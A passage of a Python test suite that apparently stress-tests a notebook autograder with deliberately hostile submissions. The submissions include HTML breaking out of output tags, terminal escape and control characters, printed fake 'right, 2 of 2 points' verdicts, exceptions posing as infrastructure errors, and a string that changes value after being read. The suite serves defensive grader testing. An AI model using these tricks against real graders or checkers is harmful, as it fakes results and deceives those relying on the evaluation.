        notebook, "dot_scores", f"def dot_scores(x):\n    raise type({HTML!r}, (Exception,), {{}})('</pre>' + {HTML!r})"
    )
    source = f"class Odd:\n    __repr__ = __str__ = lambda self: {HTML!r}\n\n"
    set_answer(notebook, "project", source + "def project(x, a, b, c):\n    return Odd(), Odd(), Odd()")
    source = f"def attention_cost(n, d):\n    return {HTML!r}, 1\n\n"
    set_answer(notebook, "attention_cost", source + f"attention_cost.__name__ = attention_cost.__qualname__ = {HTML!r}")
    return set_answer(notebook, "quiz_shapes", f"quiz_shapes = {HTML!r}")


@attack("text: control characters", loses={"softmax", "dot_scores", "project", "attention_cost", "quiz_shapes"})
def control_characters(notebook: NotebookNode) -> NotebookNode:
    """Sends commands for terminals, reversed text, lone surrogates and NUL in messages and output."""
    text = r'"\x1b[2J\x1b]0;title\x07\x1b]8;;mailto:x\x07\u202etxet\u2066\u200b\x00\x08\r\x9b31m\ud800\U000e0041"'
    set_answer(notebook, "softmax", f"def softmax(x, dim):\n    raise ValueError({text})")
    set_answer(
        notebook, "dot_scores", f"def dot_scores(x):\n    print({text}.encode('utf-8', 'replace'))\n    return {text}"
    )
    set_answer(
        notebook,
        "project",
        f"def project(x, w_q, w_k, w_v):\n    raise type('E', (Exception,), {{'__module__': {text}}})({text})",
    )
    source = "import os\ndef attention_cost(n, d):\n    os.write(1, bytes(range(256)))\n    return 7, 7"
    set_answer(notebook, "attention_cost", source)
    return set_answer(notebook, "quiz_shapes", f"quiz_shapes = {text}")


@attack("text: imitated verdict", loses={"softmax", "dot_scores", "quiz_shapes"})
def imitated_verdict(notebook: NotebookNode) -> NotebookNode:
    """Prints, raises and names things as if the grader had spoken."""
    print_pass = "print('softmax: right, 2 of 2 points')\n" * 3
    set_answer(
        notebook,
        "softmax",
        print_pass + "def softmax(x, dim):\n    raise type('right', (Exception,), {})('softmax: 2/2 points')",
    )
    set_answer(notebook, "dot_scores", "def dot_scores(x):\n    return {'status': 'right', 'passed': True, 'score': 1}")
    return set_answer(notebook, "quiz_shapes", "quiz_shapes = 'right'")


@attack("text: odd exceptions", loses={"softmax", "dot_scores", "project", "attention_cost", "causal_average"})
def odd_exceptions(notebook: NotebookNode) -> NotebookNode:
    """Raises exceptions whose text fails, does not end, is no text, or that look like those of the grader."""
    source = """
        class Fails(Exception):
            def __str__(self):
                raise self
            __repr__ = __str__
            __traceback__ = __cause__ = __context__ = property(lambda self: 1 / 0)

        def softmax(x, dim):
            raise Fails()
    """
    set_answer(notebook, "softmax", source)
    source = """
        class NoText(Exception):
            __str__ = lambda self: 7
            args = property(lambda self: 7)

        def dot_scores(x):
            raise NoText
    """
    set_answer(notebook, "dot_scores", source)
    source = (
        "def project(x, w_q, w_k, w_v):\n    raise ExceptionGroup('x', [ExceptionGroup('y', [OSError()] * 10_000)])"
    )
    set_answer(notebook, "project", source)
    source = """
        def attention_cost(n, d):
            lying = {"__class__": property(lambda self: SystemExit)}
            raise type("TimeoutError", (ConnectionError,), lying)("infrastructure error")
    """
    set_answer(notebook, "attention_cost", source)
    source = """
        def causal_average(x):
            error = ValueError("circle")
            error.__cause__ = error.__context__ = error
            raise error
    """
    return set_answer(notebook, "causal_average", source)


@attack("equals everything: quiz", loses={"quiz_cost"})
def quiz_answer_changes(notebook: NotebookNode) -> NotebookNode:
    """Lets a quiz answer change after it was read, and another be right in upper case with brackets."""
    right, wrong = quiz_letters(notebook, "quiz_cost"), other_letter(notebook, "quiz_cost")
    source = f"""
        class Changing(str):
            reads = 0

            def lower(self):
                Changing.reads += 1
                return {right!r}

        quiz_cost = Changing({wrong!r})
    """
    set_answer(notebook, "quiz_cost", source)
    return set_answer(notebook, "quiz_shapes", f"quiz_shapes = '({quiz_letters(notebook, 'quiz_shapes').upper()})'")
